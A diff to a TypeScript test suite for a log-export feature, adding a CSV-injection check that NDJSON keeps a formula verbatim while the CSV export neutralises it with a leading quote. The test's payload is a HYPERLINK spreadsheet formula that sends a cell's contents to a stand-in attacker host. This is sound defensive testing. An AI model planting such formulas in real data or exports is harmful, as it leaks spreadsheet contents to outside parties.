@@ -18,6 +18,9 @@ let store: ChildStore;
 let env: Record<string, string>;
 const secrets: string[] = [];
 const CALLS = 5;
+const FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Click")';
+/** What a spreadsheet would run as a formula is written with a leading quote in CSV (OWASP's CSV injection advice). */
+const inCsv = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
 
 /** RFC 4180: quoted fields with doubled quotes, commas and line breaks inside. */
 function parseCsv(text: string): string[][] {
@@ -67,7 +70,8 @@ before(async () => {
     const r = await callApi(server.url, 'POST', '/unified/proxy', {
       key: apiKey,
       headers: { 'x-account-id': account.id },
-      body: { url: 'https://api.stripe.com', path },
+      // the first carries a spreadsheet formula where a caller's text is kept (its idempotency key)
+      body: { url: 'https://api.stripe.com', path, ...(i === 0 ? { headers: { 'Idempotency-Key': FORMULA } } : {}) },
     });
     assert.equal(r.status, 200, r.text);
   }
@@ -148,8 +152,16 @@ describe('linkhub logs export', () => {
     assert.equal(header[0], 'kind');
     assert.equal(rows.length, ndjson.length);
     rows.forEach((row, i) => {
-      for (const [k, v] of Object.entries(ndjson[i])) assert.equal(row[header.indexOf(k)], v === null ? '' : String(v), `row ${i} ${k}`);
+      for (const [k, v] of Object.entries(ndjson[i])) assert.equal(row[header.indexOf(k)], v === null ? '' : inCsv(String(v)), `row ${i} ${k}`);
     });
+    assert.ok(
+      ndjson.some((r) => r.idempotency_key === FORMULA),
+      'the formula is kept as sent in NDJSON',
+    );
+    assert.ok(
+      rows.every((row) => row.every((cell) => !/^[=+@]/.test(cell))),
+      'no cell a spreadsheet runs',
+    );
     const masked = rows.find((row) => row[header.indexOf('url')].includes('key='));
     assert.ok(masked, 'the call with the key in its query string is exported, masked');
   });
